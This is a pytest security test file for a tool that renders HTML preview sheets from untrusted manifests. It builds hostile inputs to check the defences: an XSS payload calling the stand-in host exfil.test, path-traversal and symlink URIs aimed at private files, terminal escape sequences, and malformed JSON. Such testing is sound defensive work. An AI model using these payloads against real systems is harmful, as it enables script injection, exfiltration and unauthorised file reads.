"""The preview sheet as a hostile tenant sees it (issue 21): a manifest is untrusted data.

Script in the page, reads outside the destination root, malformed manifests, terminal escapes
and links in the report folder. Every hostile input is made here, at test time.
"""

from __future__ import annotations

import errno
import json
import os
import re
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from PIL import Image, ImageStat

from pipeline.manifestfile import MAX_MANIFEST_BYTES
from pipeline.presets import load_presets
from pipeline.report import html
from tests.support import browser, s3server
from tests.support.jobkit import image_job, write_jsonl
from tests.test_report import account_entry, manifest_doc, media_entry, run_cli

s3_server = s3server.s3_server
s3_bucket = s3server.s3_bucket

# Runs a script if it ever becomes markup, and reaches the network three ways.
PAYLOAD = ('"><img src=x onerror="document.documentElement.setAttribute(\'pwned\',\'yes\');'
           'fetch(\'http://exfil.test/f\')"><script>document.documentElement.setAttribute('
           '\'pwned\',\'yes\')</script><img src="http://exfil.test/pixel.png">'
           '<link rel="stylesheet" href="http://exfil.test/s.css">'
           '<video src="http://exfil.test/v.mp4" autoplay muted></video>')
PWNED = 'pwned="yes"'


def photo(path: Path, rgb: tuple[int, int, int], size: tuple[int, int] = (64, 48)) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    Image.new("RGB", size, rgb).save(path, quality=92)
    return path


def write_manifest(dest: Path, data: dict[str, Any], name: str = "j") -> Path:
    """``data`` where a run would have put it: ``DEST/manifests/ws/<name>.json``."""
    path = dest / "manifests" / "ws" / f"{name}.json"
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(data))
    return path


def load_in_chromium(page: Path) -> tuple[str, list[str]]:
    """The DOM Chromium built for ``page`` and every network request it tried."""
    with browser.recording_proxy() as proxy:
        dom = browser.dump_dom(page, proxy_port=proxy.port)
    return dom, proxy.page_requests


# --------------------------------------------------------------------------- 21.1 script


def test_a_manifest_with_markup_for_a_number_is_refused_before_rendering(tmp_path: Path) -> None:
    dest = tmp_path / "dest"
    uri = photo(dest / "ab" / "p.jpg", (200, 20, 20)).as_uri()
    manifest = write_manifest(dest, manifest_doc(account_entry(
        media=[media_entry(uri, width=PAYLOAD)])))
    result = run_cli(["report", str(manifest), "--out", str(tmp_path / "r")])
    page = tmp_path / "r" / "index.html"
    if page.exists():  # what the old code did: the page ran the script and went online
        dom, requests = load_in_chromium(page)
        assert PWNED not in dom and not requests
    assert result.exit_code == 2, result.stdout
    assert "$.accounts[0].media[0].width" in result.stderr
    assert "is not of type 'integer'" in result.stderr
    assert not (tmp_path / "r").exists()


def hostile_but_valid(uri: str) -> dict[str, Any]:
    """The payload in every string a valid manifest has."""
    media = media_entry(uri, source=PAYLOAD, mime=PAYLOAD, sha256=PAYLOAD, actions=[PAYLOAD],
                        warnings=[PAYLOAD])
    return manifest_doc(
        account_entry(PAYLOAD, platform=PAYLOAD, variant=PAYLOAD, warnings=[PAYLOAD],
                      media=[media, media_entry(PAYLOAD, 1, kind="video")]),
        account_entry("f", status="failed", errors=[
            {"code": PAYLOAD, "message": PAYLOAD, "http_status": 400}]),
        job_id=PAYLOAD, workspace_id=PAYLOAD, presets_version=PAYLOAD)


@pytest.mark.ffmpeg
def test_no_script_runs_and_no_request_leaves_the_page(tmp_path: Path) -> None:
    dest = tmp_path / "dest"
    uri = photo(dest / "ab" / "p.jpg", (230, 20, 20), (300, 200)).as_uri()
    manifest = write_manifest(dest, hostile_but_valid(uri))
    result = run_cli(["report", str(manifest), "--out", str(tmp_path / "r")])
    assert result.exit_code == 0, result.stderr
    page = tmp_path / "r" / "index.html"
    dom, requests = load_in_chromium(page)
    assert PWNED not in dom and requests == []
    assert dom.count("onerror=") >= 10  # the payloads are on the page, as text
    # the page's own picture still shows under the Content-Security-Policy
    with browser.recording_proxy() as proxy:
        shot = browser.screenshot(page, tmp_path / "shot.png", proxy_port=proxy.port)
    assert proxy.page_requests == []
    r, g, b = np.asarray(shot).astype(int).transpose(2, 0, 1)
    assert ((r > 180) & (g < 80) & (b < 80)).sum() > 5000


def test_escaping_holds_for_values_that_skipped_the_schema_check(tmp_path: Path) -> None:
    # render() on its own, with the payload in the numbers: escaping, and the CSP behind it
    entry = media_entry("pictures/none.jpg", width=PAYLOAD, height=PAYLOAD, bytes=PAYLOAD,
                        duration_ms=PAYLOAD, content_index=PAYLOAD, media_index=PAYLOAD)
    data = manifest_doc(account_entry(media=[entry], cover={**entry, "timestamp_ms": PAYLOAD}))
    page = tmp_path / "index.html"
    page.write_text(html.render(data, {}, load_presets(None), source=PAYLOAD))
    dom, requests = load_in_chromium(page)
    assert PWNED not in dom and requests == []
    assert "<img src=x" not in page.read_text()


def test_the_content_security_policy_alone_stops_injected_markup(tmp_path: Path) -> None:
    data = manifest_doc(account_entry(media=[media_entry("x.jpg")]))
    rendered = html.render(data, {}, load_presets(None), source="m.json")
    injected = rendered.replace("</body>", PAYLOAD + "</body>")  # as if escaping had failed
    page = tmp_path / "csp" / "index.html"
    page.parent.mkdir()
    page.write_text(injected)
    dom, requests = load_in_chromium(page)
    assert PWNED not in dom and requests == []
    # the detector works: without the policy, the same page runs the script and goes online
    bare = tmp_path / "bare" / "index.html"
    bare.parent.mkdir()
    bare.write_text(re.sub(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", injected))
    dom, requests = load_in_chromium(bare)
    assert PWNED in dom and any("exfil.test" in r for r in requests)


# --------------------------------------------------------------------------- 21.2 reads


def _frames(html_text: str) -> list[str]:
    return re.findall(r'<div class="frame"[^>]*>.*?</div>', html_text)


def test_only_objects_under_the_destination_root_are_read(tmp_path: Path) -> None:
    dest = tmp_path / "dest"
    inside = photo(dest / "ab" / "photo.jpg", (20, 20, 230))
    secret = photo(tmp_path / "private" / "secret.jpg", (230, 20, 20))
    (dest / "ab" / "link.jpg").symlink_to(secret)
    outside = [str(secret), secret.as_uri(), f"{dest.as_uri()}/../private/secret.jpg",
               f"{dest.as_uri()}/%2e%2e/private/secret.jpg", (dest / "ab" / "link.jpg").as_uri(),
               f"file://localhost{secret}", "s3://someone-elses-bucket/secret.jpg",
               f"{dest.as_uri()}/ab/./photo.jpg"]
    missing = (dest / "ab" / "missing.jpg").as_uri()
    uris = [inside.as_uri(), missing, *outside]
    manifest = write_manifest(dest, manifest_doc(account_entry(
        media=[media_entry(u, i) for i, u in enumerate(uris)])))
    result = run_cli(["report", str(manifest), "--out", str(tmp_path / "r")])
    assert result.exit_code == 0, result.stderr
    text = (tmp_path / "r" / "index.html").read_text()
    frames = _frames(text)
    assert len(frames) == len(uris)
    assert "<img" in frames[0]
    # a missing file and every outside one look exactly alike: no existence oracle
    assert "no picture: not available" in frames[1]
    assert all(f == frames[1] for f in frames[2:]), frames
    # nothing of the private photo reached the report folder
    pictures = list((tmp_path / "r" / "pictures").iterdir())
    assert len(pictures) == 1
    with Image.open(pictures[0]) as img:
        r, _, b = ImageStat.Stat(img.convert("RGB")).mean
    assert b > 150 and r < 80


def test_an_explicit_dest_is_the_root(tmp_path: Path) -> None:
    dest = tmp_path / "dest"
    inside = photo(dest / "ab" / "photo.jpg", (20, 20, 230))
    moved = tmp_path / "elsewhere" / "m.json"  # a manifest kept away from its outputs
    moved.parent.mkdir()
    moved.write_text(json.dumps(manifest_doc(account_entry(
        media=[media_entry(inside.as_uri())]))))
    result = run_cli(["report", str(moved), "--out", str(tmp_path / "r1")])
    assert result.exit_code == 0, result.stderr
    assert "no picture: not available" in (tmp_path / "r1" / "index.html").read_text()
    result = run_cli(["report", str(moved), "--out", str(tmp_path / "r2"), "--dest", str(dest)])
    assert result.exit_code == 0, result.stderr
    assert "no picture" not in (tmp_path / "r2" / "index.html").read_text()


@pytest.mark.s3
def test_on_s3_only_the_manifests_bucket_and_prefix_are_read(
        s3_server: s3server.S3Server, s3_bucket: str, tmp_path: Path) -> None:
    client = s3_server.client()
    other = f"{s3_bucket}-other"
    client.create_bucket(Bucket=other)
    try:
        for bucket, key, rgb in ((s3_bucket, "out/ab/photo.jpg", (20, 200, 20)),
                                 (s3_bucket, "private/secret.jpg", (230, 20, 20)),
                                 (other, "out/ab/photo.jpg", (230, 20, 20))):
            img = photo(tmp_path / "up" / bucket / key, rgb)
            client.upload_file(str(img), bucket, key)
        uris = [f"s3://{s3_bucket}/out/ab/photo.jpg", f"s3://{s3_bucket}/out/ab/nope.jpg",
                f"s3://{s3_bucket}/private/secret.jpg", f"s3://{s3_bucket}/out/../private/"
                "secret.jpg", f"s3://{other}/out/ab/photo.jpg"]
        body = json.dumps(manifest_doc(account_entry(
            media=[media_entry(u, i) for i, u in enumerate(uris)])))
        client.put_object(Bucket=s3_bucket, Key="out/manifests/ws/j.json", Body=body)
        result = run_cli(["report", f"s3://{s3_bucket}/out/manifests/ws/j.json", "--out",
                          str(tmp_path / "r")])
    finally:
        for obj in client.list_objects_v2(Bucket=other).get("Contents", []):
            client.delete_object(Bucket=other, Key=obj["Key"])
        client.delete_bucket(Bucket=other)
    assert result.exit_code == 0, result.stderr
    frames = _frames((tmp_path / "r" / "index.html").read_text())
    assert "<img" in frames[0] and all(f == frames[1] for f in frames[2:])
    (still,) = (tmp_path / "r" / "pictures").iterdir()
    with Image.open(still) as img:
        r, g, _ = ImageStat.Stat(img.convert("RGB")).mean
    assert g > 150 and r < 80


# --------------------------------------------------------------------------- 21.3 shapes


def _good() -> dict[str, Any]:
    return manifest_doc(account_entry(media=[media_entry("file:///nowhere/p.jpg")],
                                      cover=media_entry("file:///nowhere/c.jpg")))


def _set(path: str, value: Any) -> Any:
    def make() -> Any:
        data: Any = _good()
        data["accounts"][0]["cover"] = {k: data["accounts"][0]["cover"][k]
                                        for k in ("uri", "mime", "bytes", "width", "height")}
        *parents, last = path.split("/")
        node = data
        for p in parents:
            node = node[int(p) if p.isdigit() else p]
        if value is _DELETE:
            del node[last]
        else:
            node[int(last) if last.isdigit() else last] = value
        return data
    return make


_DELETE = object()
SHAPES: dict[str, tuple[Any, str]] = {
    "a list, not an object": (lambda: [_good()], "$.accounts"),
    "accounts is an object": (_set("accounts", {"a": 1}), "$.accounts"),
    "an account is a list": (_set("accounts/0", [account_entry()]), "$.accounts[0]"),
    "media is an object": (_set("accounts/0/media", media_entry("x")), "$.accounts[0].media"),
    "a medium is a string": (_set("accounts/0/media/0", "file:///x.jpg"),
                             "$.accounts[0].media[0]"),
    "width is a string": (_set("accounts/0/media/0/width", "64"),
                          "$.accounts[0].media[0].width"),
    "width is a bool": (_set("accounts/0/media/0/width", True), "$.accounts[0].media[0].width"),
    "width is huge": (_set("accounts/0/media/0/width", 10**30), "$.accounts[0].media[0].width"),
    "no uri": (_set("accounts/0/media/0/uri", _DELETE), "$.accounts[0].media[0]"),
    "uri is null": (_set("accounts/0/media/0/uri", None), "$.accounts[0].media[0].uri"),
    "cover is a list": (_set("accounts/0/cover", []), "$.accounts[0].cover"),
    "an error is a string": (_set("accounts/0/errors", ["boom"]), "$.accounts[0].errors[0]"),
    "a warning is a number": (_set("accounts/0/warnings", [3]), "$.accounts[0].warnings[0]"),
    "unknown kind": (_set("accounts/0/media/0/kind", "audio"), "$.accounts[0].media[0].kind"),
    "status is a number": (_set("status", 5), "$.status"),
    "a stray key": (_set("accounts/0/extra", 1), "$.accounts[0]"),
    "no job id": (_set("job_id", _DELETE), "$"),
}


@pytest.mark.parametrize("shape", sorted(SHAPES))
def test_a_malformed_manifest_is_one_line_naming_the_path(shape: str, tmp_path: Path) -> None:
    make, path = SHAPES[shape]
    manifest = tmp_path / "m.json"
    manifest.write_text(json.dumps(make()))
    result = run_cli(["report", str(manifest), "--out", str(tmp_path / "r")])
    assert result.exit_code == 2, (shape, result.stdout)
    line = result.stderr.strip()
    assert "\n" not in line and "Traceback" not in line, line
    assert line.startswith("error: [invalid_manifest]") and f" {path}: " in line, line


RAW_SHAPES: dict[str, tuple[bytes, str]] = {
    "not JSON": (b"{'accounts': []}", "not JSON"),
    "not UTF-8": (b'{"accounts": ["\xff"]}', "not UTF-8"),
    "nested a million deep": (b'{"accounts": ' + b"[" * 1_000_000 + b"]" * 1_000_000 + b"}",
                              "nested too deeply"),
    "an integer of 5000 digits": (b'{"accounts": [], "job_id": ' + b"9" * 5000 + b"}",
                                  "not JSON"),
    "a lone surrogate": (json.dumps(manifest_doc(account_entry("\ud800"))).encode(),
                         "not valid Unicode"),
    "NaN for a size": (json.dumps(manifest_doc(account_entry(
        media=[media_entry("x", bytes=float("nan"))]))).encode(), "bytes"),
    "too large": (b'{"accounts": [], "pad": "' + b"x" * MAX_MANIFEST_BYTES + b'"}',
                  "larger than"),
}


@pytest.mark.parametrize("shape", sorted(RAW_SHAPES))
def test_malformed_bytes_are_one_line_too(shape: str, tmp_path: Path) -> None:
    raw, expected = RAW_SHAPES[shape]
    manifest = tmp_path / "m.json"
    manifest.write_bytes(raw)
    result = run_cli(["report", str(manifest), "--out", str(tmp_path / "r")])
    assert result.exit_code == 2, (shape, result.stdout)
    line = result.stderr.strip()
    assert "\n" not in line and "Traceback" not in line, line
    assert line.startswith("error: [invalid_manifest]") and expected in line, line


# --------------------------------------------------------------------------- 21.13


ESCAPES = "\x1b]0;owned\x07\x1b[2J\x9b31m"


def test_terminal_escapes_in_a_manifest_never_reach_the_terminal(tmp_path: Path) -> None:
    dest = tmp_path / "dest"
    manifest = write_manifest(dest, manifest_doc(account_entry(
        ESCAPES, media=[media_entry(f"{dest.as_uri()}/{ESCAPES}.jpg"),
                        media_entry(f"s3://b/{ESCAPES}", 1)])))
    result = run_cli(["report", str(manifest), "--out", str(tmp_path / "r")])
    assert result.exit_code == 0, result.stderr
    assert "no picture for" in result.stderr  # the warnings are there, escaped
    bad = write_manifest(dest, {**manifest_doc(), "accounts": [{ESCAPES: ESCAPES}]}, "bad")
    result2 = run_cli(["report", str(bad), "--out", str(tmp_path / "r2")])
    assert result2.exit_code == 2
    for out in (result.stdout, result.stderr, result2.stdout, result2.stderr):
        assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f]", out), repr(out)


def test_an_existing_folder_of_someone_elses_is_left_alone(tmp_path: Path) -> None:
    dest = tmp_path / "dest"
    manifest = write_manifest(dest, manifest_doc(account_entry(
        media=[media_entry(photo(dest / "p.jpg", (9, 9, 9)).as_uri())])))
    out = tmp_path / "r"
    keep = photo(out / "pictures" / "holiday.jpg", (1, 2, 3))
    result = run_cli(["report", str(manifest), "--out", str(out)])
    assert result.exit_code == 2 and "not empty" in result.stderr
    assert keep.read_bytes() and not (out / "index.html").exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["dest", "r"]  # no temp folder left


def test_links_placed_in_an_earlier_report_are_never_followed(tmp_path: Path) -> None:
    dest = tmp_path / "dest"
    manifest = write_manifest(dest, manifest_doc(account_entry(
        media=[media_entry(photo(dest / "p.jpg", (9, 9, 230)).as_uri())])))
    out = tmp_path / "r"
    assert run_cli(["report", str(manifest), "--out", str(out)]).exit_code == 0
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "notes.txt").write_text("mine")
    (victim / "index.html").write_text("mine")
    for name in ("index.html", "sheet.png"):
        (out / name).unlink(missing_ok=True)
        (out / name).symlink_to(victim / name if name == "index.html" else victim / "new.png")
    os.rename(out / "pictures", tmp_path / "old-pictures")
    (out / "pictures").symlink_to(victim)
    result = run_cli(["report", str(manifest), "--out", str(out), "--png"])
    assert result.exit_code == 0, result.stderr
    assert sorted(p.name for p in victim.iterdir()) == ["index.html", "notes.txt"]
    assert (victim / "index.html").read_text() == "mine"
    for name in ("index.html", "sheet.png", "pictures"):
        assert not (out / name).is_symlink()
    assert "Preview of job" in (out / "index.html").read_text()
    assert len(list((out / "pictures").iterdir())) == 1
    # and a link given as DIR itself is refused, not followed
    link = tmp_path / "link-out"
    link.symlink_to(victim)
    result = run_cli(["report", str(manifest), "--out", str(link)])
    assert result.exit_code == 2 and "link" in result.stderr
    assert sorted(p.name for p in victim.iterdir()) == ["index.html", "notes.txt"]


# --------------------------------------------------------------------------- 21.10 batch


def _batch(tmp: Path, library: Path, source: Path, report: Path) -> Any:
    return run_cli(["batch", str(source), "--library", f"file://{library}/{{id}}",
                    "--workdir", str(tmp / "work"), "--dest", str(tmp / "out"),
                    "--report", str(report), "--no-progress"])


def test_a_sheet_that_cannot_be_written_is_a_warning_and_the_batch_goes_on(
        tmp_path: Path, library: Path) -> None:
    source = write_jsonl(tmp_path / "jobs.jsonl", [image_job("a"), image_job("b")])
    report = tmp_path / "report"
    (report / "ws" / "a" / "index.html").mkdir(parents=True)  # in the way of job a's page
    result = _batch(tmp_path, library, source, report)
    assert result.exit_code == 0, result.stderr
    lines = [json.loads(line) for line in result.stdout.splitlines()]
    assert sorted(line["job_id"] for line in lines) == ["a", "b"]
    assert "job 'a': no preview sheet" in result.stderr
    assert (report / "ws" / "a" / "index.html").is_dir()  # left as it was
    assert "Preview of job b" in (report / "ws" / "b" / "index.html").read_text()


def test_a_full_disk_while_writing_a_sheet_is_a_warning_too(
        tmp_path: Path, library: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    real = html.render

    def render(manifest: Any, *args: Any, **kwargs: Any) -> str:
        if manifest["job_id"] == "a":
            raise OSError(errno.ENOSPC, "No space left on device", "index.html")
        return real(manifest, *args, **kwargs)

    monkeypatch.setattr(html, "render", render)
    source = write_jsonl(tmp_path / "jobs.jsonl", [image_job("a"), image_job("b")])
    result = _batch(tmp_path, library, source, tmp_path / "report")
    assert result.exit_code == 0, result.stderr
    assert len(result.stdout.splitlines()) == 2
    assert "job 'a': no preview sheet: 'No space left on device (index.html)'" in result.stderr
    assert not (tmp_path / "report" / "ws" / "a").exists()  # nothing half-written
    assert [p.name for p in (tmp_path / "report" / "ws").iterdir()] == ["b"]


def test_a_link_in_the_batch_report_folder_is_not_followed(
        tmp_path: Path, library: Path) -> None:
    victim = tmp_path / "victim"
    victim.mkdir()
    report = tmp_path / "report"
    report.mkdir()
    (report / "ws").symlink_to(victim)
    source = write_jsonl(tmp_path / "jobs.jsonl", [image_job("a")])
    result = _batch(tmp_path, library, source, report)
    assert result.exit_code == 0, result.stderr
    assert "no preview sheet" in result.stderr and list(victim.iterdir()) == []


def test_terminal_escapes_from_jobs_never_reach_the_terminal_in_batch_output(
        tmp_path: Path, library: Path) -> None:
    folder = tmp_path / "jobs"
    folder.mkdir()
    hostile = {**image_job("e"), "accounts": [{"id": ESCAPES, "platform": ESCAPES}]}
    (folder / f"{ESCAPES}.json").write_text(json.dumps(hostile))
    (folder / "x.json").write_text(json.dumps({**image_job(ESCAPES)}))
    (folder / "y.json").write_text(json.dumps({**image_job("y"), "content": ESCAPES}))
    (folder / "z.json").write_text(f"{{{ESCAPES}")
    result = _batch(tmp_path, library, folder, tmp_path / "report")
    assert result.exit_code != 0 and result.stderr.count("\n") >= 4, result.stderr
    for out in (result.stdout, result.stderr):
        assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f]", out), repr(out)


def test_the_readable_batch_line_escapes_job_text_too() -> None:
    from pipeline.cli.display import human_line
    from pipeline.fleet.batch import JobOutcome
    from pipeline.models import ErrorInfo

    outcome = JobOutcome(index=0, where=f"jobs/{ESCAPES}.json", job_id=None, status="invalid",
                         error=ErrorInfo("invalid_job", ESCAPES, 422))
    line = human_line(outcome, 1, 1, page=f"r/{ESCAPES}/index.html")
    assert "owned" in line and not re.search("[\x00-\x1f\x7f-\x9f]", line), repr(line)


# --------------------------------------------------------------------------- bounds


def test_a_manifest_of_many_outputs_is_pictured_within_bounds(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import pipeline.report as report

    dest = tmp_path / "dest"
    uris = [photo(dest / f"p{i}.jpg", (20, 20, 230)).as_uri() for i in range(4)]
    manifest = write_manifest(dest, manifest_doc(account_entry(
        media=[media_entry(u, i, sha256=f"{i:064x}") for i, u in enumerate(uris)])))
    monkeypatch.setattr(report, "MAX_PICTURED", 2)
    result = run_cli(["report", str(manifest), "--out", str(tmp_path / "r")])
    assert result.exit_code == 0, result.stderr
    frames = _frames((tmp_path / "r" / "index.html").read_text())
    assert ["<img" in f for f in frames] == [True, True, False, False]
    assert "not pictured: a report pictures 2 outputs" in frames[3]
    monkeypatch.setattr(report, "REPORT_DEADLINE_S", 0.0)  # out of time from the start
    result = run_cli(["report", str(manifest), "--out", str(tmp_path / "r")])
    assert result.exit_code == 0, result.stderr
    assert all("not pictured" in f for f in _frames((tmp_path / "r" / "index.html").read_text()))


def test_run_refuses_a_report_folder_of_other_things_before_running(tmp_path: Path) -> None:
    library = tmp_path / "library"
    photo(library / "p.jpg", (1, 2, 3))
    (tmp_path / "job.json").write_text(json.dumps(
        {"workspace_id": "ws", "id": "j", "content": [{"media": ["p.jpg"]}],
         "accounts": [{"id": "a", "platform": "telegram"}]}))
    (tmp_path / "r" / "pictures").mkdir(parents=True)
    result = run_cli(["run", str(tmp_path / "job.json"), "--library", f"file://{library}/{{id}}",
                      "--dest", str(tmp_path / "out"), "--no-progress", "--report",
                      str(tmp_path / "r")])
    assert result.exit_code == 2 and "not empty" in result.stderr
    assert not (tmp_path / "out").exists()  # nothing was run
